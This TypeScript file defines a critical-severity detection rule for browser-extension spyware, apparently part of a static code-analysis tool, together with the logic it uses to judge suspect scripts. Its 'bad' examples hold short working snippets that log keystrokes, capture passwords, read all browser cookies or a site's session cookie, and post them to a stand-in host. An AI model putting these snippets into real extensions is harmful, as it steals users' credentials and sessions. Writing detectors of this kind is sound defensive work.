import type { Confidence } from '@assay/contract';
import type { RepositoryCheck, Sighting } from '../../check.ts';
import type { Note } from '../../facts/notes.ts';
import type { RepositoryFacts } from '../../facts/repository-facts.ts';

type Watching = Extract<Note, { kind: 'watching' }>;

/** Names that every message has, whatever it says. */
const COMMON: ReadonlySet<string> = new Set(
  'type action kind command cmd method name id url href page tab tabId timestamp time date title status ok error'.split(
    ' ',
  ),
);

const WHAT: Readonly<Record<Watching['sees'], string>> = {
  keys: 'every key that is pressed in a page',
  passwords: 'the password that is filled in',
  'page cookies': 'the cookies of the page',
  cookies: 'all cookies of the browser',
  'some cookies': 'cookies of the browser',
  'cookies of others': 'cookies that belong to another site',
  'a form': 'what is filled into a form of the page',
  requests: 'what the browser sends to other sites, with its tokens,',
  'the screen': 'a picture of what is shown, without being asked,',
  messages: 'what the scripts in the pages report',
};

export const check: RepositoryCheck = {
  id: 'data-handling-browser-spyware',
  title: 'Watches somebody in their browser and sends what it sees',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    The script takes what somebody types into any page, or what their browser holds for them (cookies, tokens, passwords),
    and sends it to a server. Whoever gets it can sign in as them everywhere.`,
  fix: `
    Remove the extension or the script, sign out everywhere, and change every password that was typed while it ran. A tool
    that needs keys listens to its own field; one that needs a cookie asks for that of its own site.`,
  blindSpots: `
    Values are followed by the look of the code, inside one script and in the messages between scripts of one extension.
    Code that was bundled and minified is not read.`,
  over: 'repository',
  examples: {
    bad: [
      {
        'manifest.json':
          '{"manifest_version": 3, "name": "Colours", "content_scripts": [{"matches": ["<all_urls>"], "js": ["page.js"]}]}',
        'page.js': `
          let typed = '';
          «document.addEventListener('keydown', (event) => {»
            typed += event.key;
          });
          setInterval(() => {
            fetch('https://c.acme.net/in', { method: 'POST', body: JSON.stringify({ typed }) });
          }, 5000);`,
      },
      {
        'manifest.json':
          '{"manifest_version": 2, "name": "Colours", "content_scripts": [{"matches": ["*://*/*"], "js": ["page.js"]}]}',
        'page.js': `
          «window.onkeydown = function (event) {»
            const seen = { pressed: event.key, page: location.href };
            chrome.runtime.sendMessage(seen);
          };`,
        'background.js': `
          chrome.runtime.onMessage.addListener((seen) => {
            const form = new URLSearchParams();
            form.append('k', seen.pressed);
            fetch('https://c.acme.net/', { method: 'POST', body: form });
          });`,
      },
      {
        'background.js': `
          «chrome.cookies.getAll({}, (cookies) => {»
            fetch('https://c.acme.net/in', { method: 'POST', body: JSON.stringify(cookies) });
          });`,
      },
      {
        'manifest.json':
          '{"manifest_version": 3, "name": "Sign in", "content_scripts": [{"matches": ["*://mail.acme.org/*"], "js": ["page.js"]}]}',
        'page.js': `
          const field = document.querySelector('input[type="password"]');
          document.querySelector('form').addEventListener('submit', () => {
            navigator.sendBeacon('https://c.acme.net/in', «field.value);»
          });
        `,
      },
      {
        'background.js': `
          const site = 'https://www.acme.org';
          «chrome.cookies.get({ url: site, name: 'session' }, (cookie) => {»
            fetch('https://c.acme.net/in', { method: 'POST', body: cookie.value });
          });`,
      },
      {
        'manifest.json':
          '{"manifest_version": 2, "name": "Fonts", "content_scripts": [{"matches": ["*://acme.org/*"], "js": ["page.js"]}]}',
        'page.js': "document.querySelector('form')«.setAttribute('action', 'https://c.acme.net/in');»\n",
      },
    ],
    good: [
      {
        'manifest.json':
          '{"manifest_version": 3, "name": "Share", "content_scripts": [{"matches": ["<all_urls>"], "js": ["page.js"]}]}',
        'page.js': `
          const form = document.createElement('form');
          form.action = 'https://share.acme.io/new';
          form.submit();`,
      },
      {
        'background.js': `
          chrome.cookies.get({ url: 'https://www.acme.io', name: 'session' }, (cookie) => {
            fetch('https://api.acme.io/me', { headers: { token: cookie.value } });
          });`,
      },
      {
        'manifest.json':
          '{"manifest_version": 3, "name": "Keys", "content_scripts": [{"matches": ["<all_urls>"], "js": ["page.js"]}]}',
        'page.js': `
          const commands = { j: 'down', k: 'up' };
          document.addEventListener('keydown', (event) => {
            if (event.key === 'Escape') return;
            chrome.runtime.sendMessage({ command: commands[event.key] });
          });`,
        'background.js': `
          chrome.runtime.onMessage.addListener((message) => {
            fetch('https://api.acme.io/count', { method: 'POST', body: message.command });
          });`,
      },
      {
        'search.js': `
          const field = document.querySelector('#search');
          field.addEventListener('keyup', (event) => {
            fetch('/search?q=' + event.target.value).then(show);
          });`,
      },
      {
        'login.js': `
          const password = document.querySelector('#password').value;
          fetch('/login', { method: 'POST', body: JSON.stringify({ password }) });`,
      },
      {
        'game.js': `
          const socket = new WebSocket('wss://play.acme.io');
          document.addEventListener('keydown', (event) => socket.send(event.code));`,
      },
      {
        'manifest.json': '{"manifest_version": 3, "name": "Cookies"}',
        'popup.js': `
          chrome.cookies.getAll({ domain: tab.domain }, (cookies) => show(cookies));
          chrome.tabs.captureVisibleTab(null, {}, (image) => fetch('https://pictures.acme.io', { method: 'POST', body: image }));`,
      },
    ],
  },

  *find(repository) {
    const told = new Set<string>();
    for (const note of repository.notesOf('watching')) {
      const sighting = judge(repository, note);
      if (sighting === undefined) continue;
      const place = `${note.at.file} ${String(note.line ?? note.at.start)}`;
      if (told.has(place)) continue;
      told.add(place);
      yield { at: note.at, ...sighting };
    }
  },
};

function judge(repository: RepositoryFacts, note: Watching): Omit<Sighting, 'at'> | undefined {
  const { sees, goes, isFixed } = note;
  const message = `The script takes ${WHAT[sees]} and sends it to a server.`;
  const sure: Confidence = isFixed ? 'high' : 'medium';
  const isOfExtension = note.isOfExtension || isInPages(repository, note);
  if (sees === 'messages') return undefined;
  if (goes === 'on' && sees === 'keys') {
    const sender = senderOf(repository, note);
    const trace = sender === undefined ? undefined : [{ at: sender.at, note: 'sends on what it is told' }];
    return sender === undefined ? undefined : { message, trace, confidence: 'high' };
  }
  if (goes === 'on') return undefined;
  if (goes === 'kept') {
    if (sees !== 'keys' || !isInPages(repository, note)) return undefined;
    return { message: `The script keeps ${WHAT[sees]}.`, severity: 'high', confidence: 'medium' };
  }
  switch (sees) {
    case 'keys':
      if (isOfExtension) return { message, confidence: goes === 'socket' ? 'medium' : 'high' };
      // Games and remote desktops send keys over a connection that they keep open.
      return goes === 'socket' ? undefined : { message, confidence: 'medium' };
    case 'passwords':
    case 'page cookies':
    case 'a form':
      return isInPages(repository, note) ? { message, confidence: sure } : undefined;
    // A program that signs in where its user is signed in takes the cookies of that site.
    case 'some cookies':
      return undefined;
    case 'cookies of others':
      return { message, confidence: 'medium' };
    case 'cookies':
    case 'requests':
    case 'the screen':
      return { message, confidence: sure };
    default:
      return sees satisfies never;
  }
}

/** Whether an extension runs the script in the pages of others. */
function isInPages(repository: RepositoryFacts, { at }: Watching): boolean {
  return repository
    .notesOf('extension')
    .some(({ scripts }) => scripts.some((script) => at.file === script || at.file.endsWith(`/${script}`)));
}

/** Another script of the same extension that sends on what it is told under the same names. */
function senderOf(repository: RepositoryFacts, note: Watching): Watching | undefined {
  const given = new Set(note.names.filter((name) => !COMMON.has(name)));
  const home = homeOf(repository, note.at.file);
  return repository
    .notesOf('watching')
    .find(
      ({ sees, goes, names, at }) =>
        sees === 'messages' &&
        (goes === 'away' || goes === 'socket') &&
        homeOf(repository, at.file) === home &&
        names.some((name) => name === '*' || given.has(name)),
    );
}

/** The folder of the extension that a script belongs to; the uppermost one where no manifest says. */
function homeOf(repository: RepositoryFacts, path: string): string {
  const homes = repository
    .notesOf('extension')
    .filter(({ at }) => at.file.endsWith('.json'))
    .map(({ at }) => at.file.slice(0, at.file.lastIndexOf('/') + 1))
    .filter((folder) => path.startsWith(folder));
  return homes.toSorted((a, b) => b.length - a.length)[0] ?? path.slice(0, path.indexOf('/') + 1);
}
